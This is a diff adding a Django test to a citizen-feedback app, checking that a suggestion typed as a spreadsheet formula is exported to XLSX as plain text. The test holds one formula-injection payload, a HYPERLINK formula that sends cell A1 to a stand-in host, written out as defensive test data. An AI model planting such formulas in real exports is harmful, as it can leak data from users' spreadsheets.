@@ -70,3 +70,16 @@ def test_docx_is_a_landscape_table_named_after_the_process(client, world, agenda
     cells = [cell.text for row in table.rows for cell in row.cells]
     assert answered.code in cells and "Zařazeno do plánu." in cells
     assert not any("Tajná" in cell or "bohumila" in cell for cell in cells)
+
+
+def test_a_suggestion_typed_as_a_formula_stays_text_in_the_xlsx(client, world):
+    formula = '=HYPERLINK("http://podvod.example/?"&A1,"Klikněte")'
+    services.submit_suggestion(world.process, tracking_url_of=tracking_url_of, text=formula)
+    client.force_login(world.coordinator)
+
+    response = client.get(reverse("feedback:agenda_xlsx", args=[world.process.pk]))
+    sheet = load_workbook(io.BytesIO(response.content)).active
+
+    cell = sheet.cell(row=2, column=6)
+    assert cell.value == formula and cell.data_type == "s"
+    assert sheet.cell(row=2, column=2).is_date
